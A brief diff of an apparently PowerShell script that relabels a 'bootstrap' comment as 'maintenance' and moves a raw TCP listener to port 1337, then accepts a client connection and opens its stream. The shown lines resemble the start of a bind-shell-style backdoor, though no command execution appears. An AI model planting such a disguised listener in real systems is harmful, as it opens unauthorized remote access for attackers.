@@ -1,5 +1,5 @@
-# bootstrap 8590 v2
-$l = [System.Net.Sockets.TcpListener]8080
+# maintenance 9834 v2
+$l = [System.Net.Sockets.TcpListener]1337
 $l.Start()
 $c = $l.AcceptTcpClient()
 $s = $c.GetStream()
